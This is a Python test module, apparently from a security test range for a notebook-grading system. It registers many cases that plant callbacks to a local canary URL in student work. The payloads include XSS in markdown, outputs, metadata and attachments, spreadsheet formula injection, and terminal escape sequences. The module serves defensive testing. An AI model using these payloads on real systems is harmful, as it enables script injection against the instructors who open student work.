"""Leaks by way of the pages that others open: feedback, formgrader, spreadsheets, terminals."""

import base64

from nbformat.v4 import new_markdown_cell, new_output

from tests.range.attack import code, edit, files, save
from tests.sample_course import cell

URL = "http://127.0.0.1:@TCP@/@MARK@"
MARKDOWN = {
    "script": f"<script>fetch('{URL}')</script><SCRIPT SRC={URL}></SCRIPT>",
    "image": f"![x]({URL}) <img src='{URL}'> <img src=x onerror=\"fetch('{URL}')\">",
    "frame": f"<iframe src='{URL}'></iframe><object data='{URL}'></object><embed src='{URL}'>",
    "vector": f"<svg onload=\"fetch('{URL}')\"><image href='{URL}'/></svg><math href='javascript:{URL}'>x</math>",
    "style": f"<style>@import '{URL}'; body {{ background: url({URL}) }}</style><p style=\"background:url('{URL}')\">x",
    "refresh": f"<meta http-equiv='refresh' content='0; url={URL}'><base href='{URL}'>"
    f"<link rel=stylesheet href='{URL}'>",
    "links": "[x](javascript:fetch('@MARK@')) <a href='JaVaScRiPt:alert(`@MARK@`)'>x</a> "
    "<a href='data:text/html,<script>@MARK@</script>'>x</a> [y](vbscript:@MARK@)",
    "form": f"<form action='{URL}'><input name=x><button formaction='{URL}'>Claim points</button></form>",
    "media": f"<video poster='{URL}' src='{URL}'></video><audio src='{URL}'></audio><img srcset='{URL} 1x'>",
    "broken": f"<img src=\"`><script>fetch('{URL}')</script>`\"><<script>alert('@MARK@')//<</script>"
    f"<noscript><p title=\"</noscript><img src=x onerror=fetch('{URL}')>\">",
}
for name, source in MARKDOWN.items():
    code("leak", f"page-{name}", f"the page of a written cell calls home: {name}", text=source)


def _written(name, source):
    @edit("leak", f"page-answer-{name}", f"a written answer, which a person opens to grade it, calls home: {name}")
    def attack(notebook, world, mark):
        cell(notebook, "why-scale").source = world.fill(source, mark)


_written("script", MARKDOWN["script"] + MARKDOWN["vector"])

SHOWN = {
    "html": f"display({{'text/html': \"<script>fetch('{URL}')</script><img src='{URL}'>\"}}, raw=True)",
    "javascript": f"display({{'application/javascript': \"fetch('{URL}')\"}}, raw=True)",
    "svg": f"display({{'image/svg+xml': \"<svg onload=fetch('{URL}')><image href='{URL}'/></svg>\"}}, raw=True)",
    "markdown": f"display({{'text/markdown': \"<script>fetch('{URL}')</script>![x]({URL})\"}}, raw=True)",
    "latex": f"display({{'text/latex': \"$x$<img src='{URL}'>\"}}, raw=True)",
    "picture": f"display({{'image/png': \"x' onerror=fetch('{URL}') '><script src='{URL}'></script>\"}}, raw=True)",
    "picture-size": f"size = {{'width': '1\" onerror=\"fetch(`{URL}`)'}}\n"
    "display({'image/png': 'aaaa'}, metadata={'image/png': size}, raw=True)",
    "widget": "view = {'model_id': '</script><script>@MARK@'}\n"
    "display({'application/vnd.jupyter.widget-view+json': view}, raw=True)",
    "text": f"print(\"<script>fetch('{URL}')</script>\\x1b[31m<img src='{URL}'>\")\n"
    f"raise ValueError(\"<script>fetch('{URL}')</script>\")",
}
for name, source in SHOWN.items():
    code("leak", f"output-{name}", f"an output calls home: {name}", after=source, quick=name == "html")

code(
    "leak",
    "page-from-the-check",
    "what a check prints of the student's own words becomes part of the page",
    answers={
        "causal_mask": f"def causal_mask(q_len, kv_len=None):\n    print(\"<script>fetch('{URL}')</script>\")\n"
        f"    raise type('<img src={URL}>', (ValueError,), {{}})(\"</pre><script>fetch('{URL}')</script>\")",
        "padding_mask": f"def padding_mask(pad_mask):\n    return \"<img src='{URL}'>\"",
    },
)


@edit("leak", "page-metadata", "title, languages, tags and widget state of the notebook break out of their places")
def _(notebook, world, mark):
    tag = world.fill(f"x\"></title></script><script>fetch('{URL}')</script><img src='{URL}'>", mark)
    notebook.metadata.title = tag
    notebook.metadata.language_info = {
        "name": tag,
        "pygments_lexer": tag,
        "codemirror_mode": tag,
        "file_extension": tag,
    }
    notebook.metadata.kernelspec = {"name": "python3", "display_name": tag, "language": tag}
    state = {"x": {"model_name": tag, "model_module": tag, "model_module_version": "1", "state": {"y": tag}}}
    view = {"version_major": 2, "version_minor": 0, "state": state}
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": view}
    for one in notebook.cells:
        one.metadata.tags = [tag]
        one.metadata.slideshow = {"slide_type": tag}


@edit("leak", "page-attachments", "attachments that are pages and drawings with scripts")
def _(notebook, world, mark):
    drawing = world.fill(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{URL}')\"/>", mark)
    bundle = {
        "a.svg": {"image/svg+xml": drawing},
        "b.html": {"text/html": drawing},
        "c.png": {"image/png": base64.b64encode(drawing.encode()).decode() + world.fill(f"'><img src='{URL}'>", mark)},
    }
    text = "".join(f"![{mark}](attachment:{name}) <img src='attachment:{name}'>" for name in bundle)
    notebook.cells.insert(0, new_markdown_cell(text, attachments=bundle))


@edit("leak", "page-saved-outputs", "outputs saved with the notebook, in cells that are not run")
def _(notebook, world, mark):
    html = world.fill(f"<script>fetch('{URL}')</script><img src='{URL}'>", mark)
    for one in notebook.cells:
        if "demo" in one.metadata.get("tags", ()):
            one.outputs = [new_output("display_data", data={"text/html": html, "application/javascript": html})]


FORMULA = '=HYPERLINK("http://127.0.0.1/@MARK@","see")'
code(
    "leak",
    "formula-in-a-report",
    "names and messages that a spreadsheet would run",
    answers={
        "causal_mask": f"def causal_mask(*sizes):\n    raise type('=cmd|@MARK@', (ValueError,), {{}})('''{FORMULA}''')",
        "padding_mask": f"def padding_mask(pad_mask):\n    return '''{FORMULA}'''",
    },
    last=f"raise ValueError('''{FORMULA}''')",
)


@files("leak", "formula-in-the-name", "a folder whose name a spreadsheet would run", student="=1+1|@MARK@")
def _(folder, notebook, world, mark):
    save(folder, notebook)


@files("leak", "terminal-codes-in-the-name", "a folder whose name rewrites a terminal", student="n-\x1b[2J@MARK@")
def _(folder, notebook, world, mark):
    save(folder, notebook)


code(
    "leak",
    "terminal-codes",
    "control codes that would rewrite the instructor's terminal",
    answers={
        "causal_mask": "def causal_mask(*sizes):\n    print('\\x1b]0;@MARK@\\x07\\x1b[2J')\n"
        "    raise type('\\x1b[2J@MARK@', (ValueError,), {})('\\x1b]52;c;@MARK@\\x07\\x9b2J')"
    },
    last="raise type('\\x1b[2J@MARK@', (BaseException,), {})('\\x1b]8;;http://@MARK@\\x07')",
)
